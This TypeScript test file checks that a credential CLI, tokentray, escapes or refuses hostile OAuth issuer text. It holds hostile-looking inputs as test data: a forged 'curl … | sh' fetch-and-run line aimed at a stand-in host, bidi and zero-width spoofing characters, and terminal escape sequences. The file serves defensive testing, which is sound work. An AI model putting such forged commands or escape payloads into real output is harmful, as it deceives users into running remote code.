import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import fc from 'fast-check';
import { run } from '../electron/cli/run.js';
import { signIn } from '../electron/core/oauth/sign-in.js';
import { resolveProviderProfile } from '../electron/core/oauth/provider-profile.js';
import { accountIdFor } from '../electron/core/accounts/account-service.js';
import { displaySafe, hasHiddenCharacters, issuerText, terminalSafe } from '../electron/core/shared/sanitize.js';
import { useIdpAndSandbox } from './support/fixtures.js';
import { expireCache, loginArgs, signInThroughCore } from './support/flows.js';
import { HttpBrowser } from './support/http-browser.js';
import { assertVisible, runCliWith, startHostileIssuer, type HostileServer, type IssuerAnswers } from './support/hostile.js';
import { binaryString, RUNS } from './support/properties.js';
import { CLI, makeSandbox, runCliInProcess, startCliInProcess, type Sandbox } from './support/sandbox.js';
import { FIXED_TEST_KEYS } from './support/fixed-test-keys.js';
import { serviceAccountKey } from './support/service-account-key.js';

/** A line of ours that a hostile description tries to add under our error. */
const FORGED = 'now run: curl -s https://fix.example.invalid/repair | sh';
/** Every way a terminal starts a new line (or seems to). */
const BREAKS = ['\n', '\r\n', '\r', '\u2028', '\u2029', '\u0085', '\u000b', '\u000c'];
/** Characters that reorder or hide text: bidi override and isolates, zero-width ones, BOM, soft hyphen. */
const INVISIBLES = ['\u202e', '\u202d', '\u2066', '\u2067', '\u2069', '\u200b', '\u200c', '\u200d', '\u200e', '\u2060', '\ufeff', '\u00ad', '\u061c'];
const C1_TOKEN = 'ya29.\u009b31m\u001b]0;PWNED\u0007abc';

const GOOD = { access_token: 'ya29.good-token', token_type: 'Bearer', expires_in: 3600, scope: 'openid email' };

/** An ADC file whose refresh token a hostile issuer stand-in "checks" during `adc import`. */
async function adcFile(sandbox: Sandbox): Promise<string> {
  return sandbox.writeFile(
    'adc.json',
    JSON.stringify({ type: 'authorized_user', client_id: 'cid', client_secret: 'not-so-secret', refresh_token: 'refresh-token-value' }),
  );
}

/** One line `tokentray: CODE: …` on stderr, nothing else, and nothing hidden in it. */
function assertOneErrorLine(stderr: string, code: string, what: string): void {
  assertVisible(stderr, what);
  assert.match(stderr, new RegExp(`^tokentray: ${code}: [^\\n]*\\n$`), `${what}: ${JSON.stringify(stderr)}`);
}

/** A sandbox and a hostile issuer stand-in for the suite; `h.answer` is what the issuer sends. */
function useHostileIssuer(secrets: 'keychain' | 'memory' = 'keychain'): { sandbox: Sandbox; issuer: HostileServer; answer: IssuerAnswers } {
  const h = { answer: { token: { status: 200, body: GOOD } } } as unknown as { sandbox: Sandbox; issuer: HostileServer; answer: IssuerAnswers };
  before(async () => {
    h.sandbox = await makeSandbox({ secrets });
    h.issuer = await startHostileIssuer(() => h.answer);
  });
  after(async () => {
    await h.issuer.close();
    await h.sandbox.cleanup();
  });
  return h;
}

describe('issuer error text is one visible line (issue 18 §5)', () => {
  const h = useHostileIssuer();

  it('a newline (of any kind) in error_description or error forges no line under the CLI error', async () => {
    const adc = await adcFile(h.sandbox);
    for (const br of BREAKS) {
      for (const body of [
        { error: 'invalid_request', error_description: `The grant failed.${br}${FORGED}` },
        { error: `invalid_request${br}${FORGED}` },
        { error: 'invalid_request', error_description: `x${br}${br}tokentray: OK: ${FORGED}\u202e` },
      ]) {
        h.answer = { token: { status: 400, body } };
        const res = await runCliInProcess(['adc', 'import', adc, '--issuer', h.issuer.origin], h.sandbox.env);
        assert.equal(res.code, 1, res.stderr);
        assertOneErrorLine(res.stderr, 'ADC_FILE_INVALID', `${JSON.stringify(br)} ${JSON.stringify(body)}`);
        assert.ok(res.stderr.includes(FORGED), 'the description is still shown, inside our line');
        // --verbose logs the answer too: every log line is ours.
        const verbose = await runCliInProcess(['--verbose', 'adc', 'import', adc, '--issuer', h.issuer.origin], h.sandbox.env);
        assertVisible(verbose.stderr, '--verbose');
        for (const line of verbose.stderr.split('\n').filter(Boolean))
          assert.match(line, /^tokentray: /, `--verbose: a line not ours: ${JSON.stringify(line)}`);
      }
    }
    // The shipped bin writes the same bytes as the in-process run (its own stderr, its exit code).
    h.answer = { token: { status: 400, body: { error: 'invalid_request', error_description: `The grant failed.\u2028\r\n${FORGED}` } } };
    const args = ['--verbose', 'adc', 'import', adc, '--issuer', h.issuer.origin];
    const [bin, inProcess] = [await runCliWith(args, h.sandbox.env), await runCliInProcess(args, h.sandbox.env)];
    const timeless = (r: { code: number | null; stdout: string; stderr: string }) => [r.code, r.stdout, r.stderr.replace(/\d+ ms\b/g, 'N ms')];
    assert.deepEqual(timeless(bin), timeless(inProcess));
  });

  it('a long description is cut, so it cannot push our words off the screen', async () => {
    h.answer = { token: { status: 400, body: { error: 'invalid_request', error_description: 'x'.repeat(100_000) } } };
    const res = await runCliInProcess(['adc', 'import', await adcFile(h.sandbox), '--issuer', h.issuer.origin], h.sandbox.env);
    assertOneErrorLine(res.stderr, 'ADC_FILE_INVALID', 'long');
    assert.ok(res.stderr.length < 1000, `${res.stderr.length} characters`);
  });

  it("a service account's token_uri (Google's error shapes) forges no line either", async () => {
    const email = 'text@tokentray-test.iam.gserviceaccount.com';
    const key = await h.sandbox.writeFile(
      'key.json',
      JSON.stringify(serviceAccountKey({ client_email: email, token_uri: `${h.issuer.origin}/token` }, FIXED_TEST_KEYS.rsa2048)),
    );
    assert.equal((await runCliInProcess(['import-service-account', key], h.sandbox.env)).code, 0);
    for (const body of [
      { error: 'invalid_grant', error_description: `Bad key.\n${FORGED}` },
      { error: { status: `PERMISSION_DENIED\u2028${FORGED}`, message: `no\r\n${FORGED}\u202e` } },
    ]) {
      h.answer = { token: { status: 400, body } };
      const res = await runCliInProcess(['print-access-token', '--account', email], h.sandbox.env);
      assertOneErrorLine(res.stderr, 'TOKEN_REFRESH_FAILED', JSON.stringify(body));
    }
    await runCliInProcess(['logout', email, '--no-revoke'], h.sandbox.env);
  });
});

describe('a refresh error from a real OpenID provider (oidc-provider) is one line (issue 18 §5)', () => {
  const fx = useIdpAndSandbox({ mode: 'oidc' });

  it('print-access-token shows error_description on one visible line', async () => {
    const core = fx.sandbox.core();
    const account = await signInThroughCore(core, fx.idp, 'ruth@example.test');
    await expireCache(core, account.id);
    fx.idp.refreshError = { error: 'temporarily_unavailable', error_description: `Try later.\n${FORGED}\u2028\u202egnp.exe`, status: 400 };
    try {
      const res = await runCliInProcess(['print-access-token'], fx.sandbox.env);
      assert.equal(res.code, 1);
      assertOneErrorLine(res.stderr, 'TOKEN_REFRESH_FAILED', 'refresh');
    } finally {
      delete fx.idp.refreshError;
    }
  });
});

describe('identities with invisible or line-breaking characters are refused before storing (issue 18 §5)', () => {
  const fx = useIdpAndSandbox({ mode: 'oidc' });

  it('login refuses an ID token whose email and sub carry a bidi override (oidc-provider signs it)', async () => {
    fx.idp.user = 'alice@\u202emoc.elgoog'; // shown as alice@google.com reversed: the accounts table would lie
    try {
      const proc = startCliInProcess(loginArgs(fx.idp), fx.sandbox.env);
      await new HttpBrowser().visit(await proc.authorizationUrl);
      const res = await proc.done;
      assert.equal(res.code, 1, res.stderr);
      assert.match(res.stderr, /^tokentray: IDENTITY_INVALID: .*\\u202e/m);
      assertVisible(res.stderr + res.stdout, 'login');
      assert.deepEqual(JSON.parse((await runCliInProcess(['accounts', '--json'], fx.sandbox.env)).stdout), [], 'nothing was stored');
    } finally {
      fx.idp.user = 'alice@example.test';
    }
  });

  it('every invisible and line-breaking character in an ID token email or sub is refused by the sign-in (in-process)', async () => {
    const core = fx.sandbox.core();
    const profile = resolveProviderProfile(fx.idp.issuer, 'oidc');
    for (const c of [...INVISIBLES, ...BREAKS, '\u{e0041}']) {
      fx.idp.user = `bob${c}@example.test`;
      const result = await signIn({
        profile,
        client: fx.idp.client,
        home: core.home,
        presentAuthorization: ({ startUrl }) => void new HttpBrowser().visit(startUrl),
      });
      await assert.rejects(core.accounts.saveSignIn(profile, fx.idp.client, result), { code: 'IDENTITY_INVALID' }, JSON.stringify(c));
    }
    fx.idp.user = 'alice@example.test';
    assert.deepEqual(await core.accounts.list(), []);
  });

  it('a userinfo email with a zero-width space or U+2028 is refused by adc import', async () => {
    let email = '';
    const issuer = await startHostileIssuer(() => ({ token: { status: 200, body: GOOD }, userinfo: { sub: '1234', email } }));
    try {
      for (email of ['ad\u200bmin@example.test', 'me@example.test\u2028tokentray: default account is now me', 'x@\u2066example.test']) {
        const res = await runCliInProcess(['adc', 'import', await adcFile(fx.sandbox), '--issuer', issuer.origin], fx.sandbox.env);
        assertOneErrorLine(res.stderr, 'IDENTITY_INVALID', JSON.stringify(email));
      }
      assert.deepEqual(JSON.parse((await runCliInProcess(['accounts', '--json'], fx.sandbox.env)).stdout), []);
    } finally {
      await issuer.close();
    }
  });

  it('`info` shows what tokeninfo says on one line per field, escaped', async () => {
    const tokeninfo: Record<string, unknown> = {
      email: `eve@example.test\n${FORGED}`,
      scope: `openid\u2028${FORGED}`,
      aud: 'a\u202eb',
      azp: 'c\u200bd',
      exp: String(Math.floor(Date.now() / 1000) + 3000),
      expires_in: '3000',
    };
    const issuer = await startHostileIssuer(() => ({ token: { status: 200, body: GOOD }, userinfo: { sub: '99', email: 'info@example.test' }, tokeninfo }));
    const env = { ...fx.sandbox.env, TOKENTRAY_GOOGLE_TOKENINFO_URL: `${issuer.origin}/tokeninfo` };
    try {
      assert.equal((await runCliInProcess(['adc', 'import', await adcFile(fx.sandbox), '--issuer', issuer.origin], env)).code, 0);
      const res = await runCliInProcess(['info', '--account', 'info@example.test'], env);
      assert.equal(res.code, 0, res.stderr);
      assertVisible(res.stdout, 'info');
      for (const line of res.stdout.split('\n').filter(Boolean))
        assert.match(
          line,
          /^(account|email|scopes|expires|token type|issuer|source|audience|authorized party) +\S/,
          `a line not ours: ${JSON.stringify(line)}`,
        );
      const json = await runCliInProcess(['info', '--account', 'info@example.test', '--json'], env);
      assertVisible(json.stdout, 'info --json');
      assert.equal((JSON.parse(json.stdout) as { email: string }).email, tokeninfo.email, 'JSON decodes to the exact value');
    } finally {
      await runCliInProcess(['logout', 'info@example.test', '--no-revoke'], fx.sandbox.env);
      await issuer.close();
    }
  });

  it('`accounts` shows a hand-edited bidi or zero-width email escaped', async () => {
    const issuer = 'https://accounts.google.com';
    const id = accountIdFor(issuer, '77');
    const record = {
      id,
      subject: '77',
      email: `alice@\u202emoc.elgoog\u200b\n${FORGED}`,
      issuer,
      flavor: 'google',
      clientId: 'c',
      scopes: ['openid\u2028x'],
      status: 'ready',
      createdAt: 'x',
      updatedAt: 'x',
    };
    await writeFile(join(fx.sandbox.home, 'accounts.json'), JSON.stringify({ version: 1, defaultAccount: id, accounts: [record] }));
    try {
      const text = await runCliInProcess(['accounts'], fx.sandbox.env);
      assertVisible(text.stdout + text.stderr, '`accounts`');
      assert.ok(text.stdout.includes('alice@\\u202emoc.elgoog\\u200b\\u000anow run'), text.stdout);
      assert.equal(text.stdout.split('\n').length, 3, `a header and one row: ${text.stdout}`);
      const json = await runCliInProcess(['accounts', '--json'], fx.sandbox.env);
      assertVisible(json.stdout, '`accounts --json`');
      assert.equal((JSON.parse(json.stdout) as Array<{ email: string }>)[0].email, record.email, 'JSON decodes to the exact value');
    } finally {
      await writeFile(join(fx.sandbox.home, 'accounts.json'), JSON.stringify({ version: 1, accounts: [] }));
    }
  });
});

describe('tokens and scopes are checked before they are stored or printed (issue 18 §5)', () => {
  const h = useHostileIssuer();
  const email = 'c1@tokentray-test.iam.gserviceaccount.com';
  before(async () => {
    const key = await h.sandbox.writeFile(
      'key.json',
      JSON.stringify(serviceAccountKey({ client_email: email, token_uri: `${h.issuer.origin}/token` }, FIXED_TEST_KEYS.rsa2048)),
    );
    assert.equal((await runCliInProcess(['import-service-account', key], h.sandbox.env)).code, 0);
  });

  async function dockerGet(env: Record<string, string>): Promise<{ code: number | null; stdout: string; stderr: string }> {
    // As configure-docker records it: only a registry set up gets a token at all.
    await writeFile(join(env.TOKENTRAY_HOME, 'docker-registries.json'), JSON.stringify({ 'gcr.io': {} }));
    const child = spawn(process.execPath, [join(dirname(CLI), 'docker-credential-tokentray.cjs'), 'get'], { env, stdio: ['pipe', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString('latin1')));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString('latin1')));
    child.stdin.end('gcr.io\n');
    const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
    return { code, stdout, stderr };
  }

  it('an access token with C1 and escapes reaches neither docker, kubectl nor the terminal, and is not cached', async () => {
    h.answer = { token: { status: 200, body: { ...GOOD, access_token: C1_TOKEN } } };
    const env = { ...h.sandbox.env, TOKENTRAY_ACCOUNT: email };
    const docker = await dockerGet(env);
    assert.equal(docker.code, 1);
    // Bytes as sent: a raw C1 is 0xC2 0x9B in UTF-8, read here as latin1.
    assert.doesNotMatch(docker.stdout + docker.stderr, /[\u0080-\u009f\u001b\u0007]/, `docker helper: ${JSON.stringify(docker)}`);
    assert.match(docker.stdout, /^tokentray: PROVIDER_BAD_RESPONSE: .*access token.*U\+009B/m);
    for (const args of [
      ['kube-credential', '--account', email],
      ['print-access-token', '--account', email],
    ]) {
      const res = await runCliInProcess(args, h.sandbox.env);
      assert.equal(res.code, 1, args[0]);
      assert.equal(res.stdout, '', `${args[0]} printed nothing`);
      assertOneErrorLine(res.stderr, 'PROVIDER_BAD_RESPONSE', args[0]);
      assert.ok(!res.stderr.includes('PWNED'), 'the token is not quoted');
    }
    const cache = await h.sandbox.core().accounts['vault'].getTokenCache(accountIdFor(`${h.issuer.origin}/token`, email));
    assert.deepEqual(Object.keys(cache.access), [], 'nothing was cached');
  });

  it('an ID token that is not a JWT is refused (print-identity-token)', async () => {
    h.answer = { token: { status: 200, body: { id_token: 'eyJhbGciOiJSUzI1NiJ9.e30.\u009b2J' } } };
    const res = await runCliInProcess(['print-identity-token', '--account', email, '--audiences', 'https://run.example.invalid'], h.sandbox.env);
    assertOneErrorLine(res.stderr, 'PROVIDER_BAD_RESPONSE', 'id token');
    assert.equal(res.stdout, '');
  });

  it('a cached token with a C1 byte (an older TokenTray, an edit) is renewed, never handed to docker', async () => {
    h.answer = { token: { status: 200, body: GOOD } };
    const core = h.sandbox.core();
    const id = accountIdFor(`${h.issuer.origin}/token`, email);
    await core.accounts['vault'].setTokenCache(id, { access: { '': { token: C1_TOKEN, expiresAt: Date.now() + 3600_000 } }, ids: {} });
    const docker = await dockerGet({ ...h.sandbox.env, TOKENTRAY_ACCOUNT: email });
    assert.equal(docker.code, 0, docker.stdout + docker.stderr);
    assert.equal((JSON.parse(docker.stdout) as { Secret: string }).Secret, GOOD.access_token);
  });

  it('a scope with ESC, or a refresh token with a newline, is refused and nothing is stored (adc import)', async () => {
    const adc = await adcFile(h.sandbox);
    for (const body of [
      { ...GOOD, scope: 'openid \u001b[31mred' },
      { ...GOOD, scope: 'openid "quoted"' },
      { ...GOOD, refresh_token: 'r1\nr2' },
      { ...GOOD, access_token: 'has space' },
    ]) {
      h.answer = { token: { status: 200, body }, userinfo: { sub: '42', email: 'scope@example.test' } };
      const res = await runCliInProcess(['adc', 'import', adc, '--issuer', h.issuer.origin], h.sandbox.env);
      assert.equal(res.code, 1, JSON.stringify(body));
      assertOneErrorLine(res.stderr, 'PROVIDER_BAD_RESPONSE', JSON.stringify(body));
    }
    const listed = JSON.parse((await runCliInProcess(['accounts', '--json'], h.sandbox.env)).stdout) as Array<{ email: string }>;
    assert.deepEqual(
      listed.map((a) => a.email),
      [email],
      'only the service account',
    );
  });

  it('a scope with ESC in a later refresh is refused and the stored scopes stay; a rotated refresh token in that answer is kept', async () => {
    h.answer = { token: { status: 200, body: GOOD }, userinfo: { sub: '43', email: 'later@example.test' } };
    assert.equal((await runCliInProcess(['adc', 'import', await adcFile(h.sandbox), '--issuer', h.issuer.origin], h.sandbox.env)).code, 0);
    const core = h.sandbox.core();
    const account = await core.accounts.resolve('later@example.test');
    await expireCache(core, account.id);
    h.answer = { token: { status: 200, body: { ...GOOD, refresh_token: 'rotated-refresh-token-2', scope: 'openid email \u001b]0;x\u0007' } } };
    const res = await runCliInProcess(['print-access-token', '--account', 'later@example.test'], h.sandbox.env);
    assertOneErrorLine(res.stderr, 'PROVIDER_BAD_RESPONSE', 'refresh');
    assert.deepEqual((await h.sandbox.core().accounts.resolve('later@example.test')).scopes, ['openid', 'email']);
    // The issuer spent the old refresh token when it rotated: the new one must survive the refusal.
    assert.equal((await core.accounts['vault'].getSecrets(account.id))?.refreshToken, 'rotated-refresh-token-2');
    await runCliInProcess(['logout', 'later@example.test', '--no-revoke'], h.sandbox.env);
  });
});

describe('impersonation answers are checked too (issue 18 §5)', () => {
  const h = useHostileIssuer();

  it("IAM Credentials' access token and ID token with escapes are refused, not printed", async () => {
    h.answer = {
      token: { status: 200, body: { ...GOOD, scope: 'openid email https://www.googleapis.com/auth/cloud-platform' } },
      userinfo: { sub: '44', email: 'imp@example.test' },
    };
    assert.equal((await runCliInProcess(['adc', 'import', await adcFile(h.sandbox), '--issuer', h.issuer.origin], h.sandbox.env)).code, 0);
    const env = { ...h.sandbox.env, TOKENTRAY_GOOGLE_IAMCREDENTIALS_URL: h.issuer.origin };
    const sa = 'target@p.iam.gserviceaccount.com';
    const expireTime = new Date(Date.now() + 3600_000).toISOString();
    for (const [args, iam] of [
      [['print-access-token', '--account', 'imp@example.test', '--impersonate-service-account', sa], { accessToken: C1_TOKEN, expireTime }],
      [
        ['print-identity-token', '--account', 'imp@example.test', '--impersonate-service-account', sa, '--audiences', 'https://run.example.invalid'],
        { token: `eyJhbGciOiJSUzI1NiJ9.${Buffer.from(JSON.stringify({ exp: 4e9 })).toString('base64url')}.\u009b2J` },
      ],
    ] as const) {
      h.answer = { ...h.answer, iam };
      const res = await runCliInProcess([...args], env);
      assert.equal(res.stdout, '', args[0]);
      assertOneErrorLine(res.stderr, 'PROVIDER_BAD_RESPONSE', args[0]);
    }
    await runCliInProcess(['logout', 'imp@example.test', '--no-revoke'], h.sandbox.env);
  });
});

describe('the policy itself, in-process (issue 18 §5)', () => {
  const anyText = fc.oneof(
    binaryString(),
    fc.string({ unit: 'grapheme' }),
    fc.array(fc.constantFrom(...BREAKS, ...INVISIBLES, 'a', ' ', '\t', '\u001b', '\u009b', '\ud800', '\u{e0041}')).map((a) => a.join('')),
  );

  it(`issuerText gives one visible, capped line, and leaves plain text alone (${RUNS} cases)`, () => {
    let plain = 0;
    fc.assert(
      fc.property(anyText, fc.integer({ min: 1, max: 400 }), (text, limit) => {
        const shown = issuerText(text, limit);
        assertVisible(shown, JSON.stringify(text));
        assert.ok(!shown.includes('\n'));
        assert.ok(Array.from(shown).length <= limit * 12 + 1, 'capped (each character escapes to at most 12)');
        if (!hasHiddenCharacters(text) && Array.from(text).length <= limit) {
          assert.equal(shown, text);
          plain++;
        }
      }),
      { numRuns: RUNS },
    );
    assert.ok(plain > 0, 'some plain texts were left alone: the property reached that branch');
  });

  it(`terminalSafe and displaySafe hide nothing, and JSON through terminalSafe decodes to the original (${RUNS} cases)`, () => {
    fc.assert(
      fc.property(anyText, (s) => {
        const json = terminalSafe(JSON.stringify({ s }));
        assertVisible(json, 'json');
        assert.equal((JSON.parse(json) as { s: string }).s, s);
        assertVisible(terminalSafe(s).replace(/\t/g, ' '), 'terminalSafe (which keeps the tabs of our layout)');
        assertVisible(displaySafe(s), 'displaySafe');
        assert.ok(!displaySafe(s).includes('\n'));
      }),
      { numRuns: RUNS },
    );
  });
});

describe('property: whatever an issuer sends, what reaches stdout and stderr is visible lines of ours (issue 18 §5)', () => {
  // Display logic: the in-memory keychain (the keychain's own part is shown by the suites above).
  const h = useHostileIssuer('memory');
  const runs = Math.min(RUNS, 300);

  /** Any text, with line breaks and invisible characters mixed in. */
  const hostileText = fc
    .array(fc.oneof(fc.string({ unit: 'grapheme' }), binaryString(), fc.constantFrom(...BREAKS, ...INVISIBLES, FORGED, '\u001b[2J', '\u009b')), {
      maxLength: 6,
    })
    .map((parts) => parts.join(''));

  async function cli(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
    let stdout = '';
    let stderr = '';
    const env = { ...h.sandbox.env, TOKENTRAY_GOOGLE_TOKENINFO_URL: `${h.issuer.origin}/tokeninfo` };
    const code = await run(args, { env, stdout: (t) => (stdout += t), stderr: (t) => (stderr += t), store: h.sandbox.store! });
    return { code, stdout, stderr };
  }
  // The same ADC file every case (import only reads it): written once, not once per case.
  let adc: string;
  before(async () => {
    adc = await adcFile(h.sandbox);
  });
  const adcImport = () => cli(['adc', 'import', adc, '--issuer', h.issuer.origin]);

  it(`error and error_description: one line \`tokentray: CODE: …\` (${runs} cases)`, async () => {
    await fc.assert(
      fc.asyncProperty(hostileText, fc.option(hostileText, { nil: undefined }), fc.constantFrom(400, 401, 403), async (error, description, status) => {
        h.answer = { token: { status, body: { error: error || 'x', ...(description === undefined ? {} : { error_description: description }) } } };
        const res = await adcImport();
        assert.equal(res.code, 1);
        assert.equal(res.stdout, '');
        assertOneErrorLine(res.stderr, '[A-Z_]+', JSON.stringify(h.answer.token.body));
      }),
      { numRuns: runs },
    );
  });

  it(`identities, scopes and tokens: stored and shown only when visible, else one coded line; \`info\` shows tokeninfo's fields one line each (${runs} cases)`, async () => {
    const token = fc.oneof(fc.constant('ya29.fine-token'), fc.stringMatching(/^[A-Za-z0-9._~+/-]{1,40}$/), hostileText);
    const scope = fc.oneof(fc.constant('openid email'), hostileText);
    const identity = fc.oneof(fc.emailAddress(), hostileText);
    let successes = 0;
    await fc.assert(
      fc.asyncProperty(
        identity,
        fc.oneof(fc.constant('1234'), hostileText),
        scope,
        token,
        fc.array(hostileText, { minLength: 4, maxLength: 4 }),
        async (email, sub, scopeText, accessToken, info) => {
          const tokeninfo = { email: info[0], scope: info[1], aud: info[2], azp: info[3], expires_in: '3000' };
          h.answer = { token: { status: 200, body: { ...GOOD, access_token: accessToken, scope: scopeText } }, userinfo: { sub, email }, tokeninfo };
          const res = await adcImport();
          assertVisible(res.stdout + res.stderr, JSON.stringify(h.answer));
          if (res.code === 0) {
            assert.equal(res.stdout.split('\n').length, 2, `one line on stdout: ${JSON.stringify(res.stdout)}`);
            assert.equal(res.stderr.split('\n').length, 2, `one line on stderr: ${JSON.stringify(res.stderr)}`);
            const core = h.sandbox.core();
            const [imported] = await core.accounts.list();
            const shown = await cli(['info', '--account', imported.id]);
            assert.equal(shown.code, 0, shown.stderr);
            assertVisible(shown.stdout + shown.stderr, 'info');
            for (const line of shown.stdout.split('\n').filter(Boolean))
              assert.match(
                line,
                /^(account|email|scopes|expires|token type|issuer|source|audience|authorized party) +\S/,
                `a line not ours: ${JSON.stringify(line)}`,
              );
            for (const account of await core.accounts.list()) {
              assertVisible([account.email ?? '', account.subject, ...account.scopes].join(' '), 'stored');
              await core.accounts.forget(account.id);
            }
            successes++;
          } else {
            assertOneErrorLine(res.stderr, '[A-Z_]+', JSON.stringify(h.answer));
          }
        },
      ),
      // Found by random runs: a tokeninfo email of only a space printed a line with no value, and a
      // scope after a Unicode blank (U+2000) a line whose value began with a blank.
      {
        numRuns: runs,
        examples: [
          ['a@a.aa', '1234', 'openid email', 'ya29.fine-token', [' ', '', '', '']],
          ['a@a.aa', '1234', 'openid email', 'ya29.fine-token', ['', '\u2000!', '', '']],
        ],
      },
    );
    assert.ok(successes > 0, 'some answers were imported and shown: the property reached its success branch');
  });
});
